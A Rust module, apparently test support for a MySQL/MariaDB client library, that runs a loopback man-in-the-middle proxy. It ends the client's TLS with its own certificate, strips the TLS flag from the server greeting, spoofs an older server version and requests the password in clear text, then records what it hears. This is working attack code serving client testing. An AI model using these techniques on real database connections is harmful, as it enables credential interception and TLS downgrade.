//! Somebody between a client and a MariaDB or MySQL server who answers in the server's place.

use std::io;
use std::sync::{Arc, Mutex};

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinHandle;
use tokio_rustls::rustls::pki_types::ServerName;
use tokio_rustls::{TlsAcceptor, TlsConnector};

use crate::attacks::man_in_the_middle::middle::{careless, own_certificate};

/// What the one in the middle tries.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Trick {
    /// Ends the client's TLS with a certificate of his own and passes all on, over TLS.
    Relays,
    /// Ends the client's TLS and asks for the password as it is.
    AsksForPassword,
    /// Says that the server has no TLS, and asks the same.
    HasNoTls,
    /// Relays as above, and greets as a MariaDB that is too old to prove itself.
    GreetsAsOld,
}

impl Trick {
    pub(super) const ALL: [Self; 4] = [Self::Relays, Self::AsksForPassword, Self::HasNoTls, Self::GreetsAsOld];
}

/// In the middle, until dropped.
pub(super) struct Middle {
    pub port: u16,
    heard: Arc<Mutex<Vec<u8>>>,
    task: JoinHandle<()>,
}

impl Drop for Middle {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl Middle {
    /// In front of a server on the loopback.
    pub(super) async fn start(server_port: u16, trick: Trick) -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let (heard, acceptor) = (Arc::<Mutex<Vec<u8>>>::default(), TlsAcceptor::from(own_certificate()));
        let ear = heard.clone();
        let task = tokio::spawn(async move {
            while let Ok((client, _)) = listener.accept().await {
                let (ear, acceptor) = (ear.clone(), acceptor.clone());
                // Whoever notices hangs up.
                tokio::spawn(async move { deceive(client, server_port, trick, &acceptor, &ear).await.ok() });
            }
        });
        Self { port, heard, task }
    }

    /// Whether these words were said to him, in clear or within the TLS that he ended.
    pub(super) fn has_heard(&self, words: &str) -> bool {
        self.heard.lock().unwrap().windows(words.len()).any(|window| window == words.as_bytes())
    }
}

async fn deceive(
    mut client: TcpStream,
    server_port: u16,
    trick: Trick,
    acceptor: &TlsAcceptor,
    ear: &Mutex<Vec<u8>>,
) -> io::Result<()> {
    let mut server = TcpStream::connect(("127.0.0.1", server_port)).await?;
    let mut greeting = packet(&mut server, &Mutex::default()).await?;
    if trick == Trick::HasNoTls {
        take_tls_away(&mut greeting);
        client.write_all(&greeting).await?;
        return ask(client, ear).await;
    }
    if trick == Trick::GreetsAsOld {
        greet_as_old(&mut greeting);
    }
    client.write_all(&greeting).await?;
    let request = packet(&mut client, ear).await?;
    let mut client = acceptor.accept(client).await?;
    if trick == Trick::AsksForPassword {
        return ask(client, ear).await;
    }
    server.write_all(&request).await?;
    let name = ServerName::try_from("localhost").unwrap();
    let server = TlsConnector::from(careless()).connect(name, server).await?;
    let (mut from_server, mut to_server) = tokio::io::split(server);
    let (mut from_client, mut to_client) = tokio::io::split(&mut client);
    let back = async { tokio::io::copy(&mut from_server, &mut to_client).await.map(drop) };
    let forth = async {
        let mut bytes = vec![0; 64 << 10];
        loop {
            let len = from_client.read(&mut bytes).await?;
            if len == 0 {
                return to_server.shutdown().await;
            }
            ear.lock().unwrap().extend_from_slice(&bytes[..len]);
            to_server.write_all(&bytes[..len]).await?;
        }
    };
    tokio::try_join!(back, forth).map(drop)
}

/// Asks for the password in clear, whatever comes first, and listens.
async fn ask(mut client: impl AsyncRead + AsyncWrite + Unpin, ear: &Mutex<Vec<u8>>) -> io::Result<()> {
    let response = packet(&mut client, ear).await?;
    let switch = b"\xfemysql_clear_password\0";
    client.write_all(&[u8::try_from(switch.len()).unwrap(), 0, 0, response[3] + 1]).await?;
    client.write_all(switch).await?;
    packet(&mut client, ear).await.map(drop)
}

/// One packet with its header.
async fn packet(from: &mut (impl AsyncRead + Unpin), ear: &Mutex<Vec<u8>>) -> io::Result<Vec<u8>> {
    let mut packet = vec![0; 4];
    from.read_exact(&mut packet).await?;
    let len = u32::from_le_bytes([packet[0], packet[1], packet[2], 0]) as usize;
    packet.resize(4 + len, 0);
    from.read_exact(&mut packet[4..]).await?;
    ear.lock().unwrap().extend_from_slice(&packet);
    Ok(packet)
}

/// Has a greeting say that it is of MariaDB 10.11, or of MySQL 8.0.
fn greet_as_old(greeting: &mut Vec<u8>) {
    let end = greeting[5..].iter().position(|b| *b == 0).unwrap() + 5;
    let is_maria = greeting[5..end].windows(7).any(|word| word == b"MariaDB");
    let version: &[u8] = if is_maria { b"5.5.5-10.11.2-MariaDB" } else { b"8.0.1" };
    greeting.splice(5..end, version.iter().copied());
    greeting[0] = u8::try_from(greeting.len() - 4).unwrap();
}

/// Takes the word that there is TLS out of a greeting: of two bytes behind the version's end, the session's number, eight bytes and
/// a NUL.
fn take_tls_away(greeting: &mut [u8]) {
    let version_end = greeting[5..].iter().position(|b| *b == 0).unwrap() + 5;
    greeting[version_end + 4 + 8 + 1 + 2] &= !0x08;
}
